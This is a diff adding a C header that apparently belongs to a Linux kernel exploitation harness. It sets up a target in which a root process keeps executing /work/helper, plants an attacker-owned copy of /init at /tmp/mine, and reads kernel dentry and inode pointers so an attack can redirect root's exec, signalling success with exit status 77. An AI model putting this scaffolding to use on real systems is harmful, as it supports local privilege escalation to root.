@@ -1,0 +1,70 @@
+// SPDX-License-Identifier: GPL-2.0-only
+/*
+ * helper_program.h - the prize of the attacks on names: a program of root starts HELPER again and
+ * again, by its name. The attacker has a program of his own, MINE. When root runs that, it says so
+ * by its exit status.
+ */
+#pragma once
+#include "attack.h"
+
+#define HELPER "/work/helper"
+#define MINE "/tmp/mine"
+#define ROOT_RAN_IT 77
+
+/* The attacker's program: the one that he runs himself, as somebody else starts it. */
+static inline long make_own_program(void)
+{
+	const long from = call3(__NR_open, (long)"/init", O_RDONLY, 0);
+	const long to = call3(__NR_open, (long)MINE, O_CREAT | O_WRONLY, 0755);
+
+	call4(__NR_sendfile, to, from, 0, 1 << 20);
+	call1(__NR_close, from);
+	call1(__NR_close, to);
+	return call3(__NR_open, (long)MINE, O_RDONLY, 0);
+}
+
+static inline uint64_t dentry_of(long file)
+{
+	return peek(file_struct(own_task(), (int)file) + member("file.path") +
+		    member("path.dentry"));
+}
+
+static inline uint64_t inode_of(long file)
+{
+	return peek(file_struct(own_task(), (int)file) + member("file.inode"));
+}
+
+/* Long enough for root's program to have started its helper several times. */
+static inline void wait_for_root(void)
+{
+	sleep_milliseconds(300);
+}
+
+/* In process 1's child, root. */
+static inline void run_helper(const char *name)
+{
+	static const char *const arguments[] = { "helper", NULL }, *const environment[] = { NULL };
+	long child;
+
+	for (;;) {
+		child = fork_program();
+		if (child == 0) {
+			call3(__NR_execve, (long)name, (long)arguments, (long)environment);
+			leave(1);
+		}
+		if (wait_program(child) >> 8 == ROOT_RAN_IT)
+			say_result("WON");
+		sleep_milliseconds(20);
+	}
+}
+
+/* A file that everybody may execute, and that is no program. */
+static inline void make_helper(void)
+{
+	long file;
+
+	call2(__NR_mkdir, (long)"/work", 0755);
+	file = call3(__NR_open, (long)HELPER, O_CREAT | O_WRONLY, 0755);
+	call3(__NR_write, file, (long)"nothing", 7);
+	call1(__NR_close, file);
+}
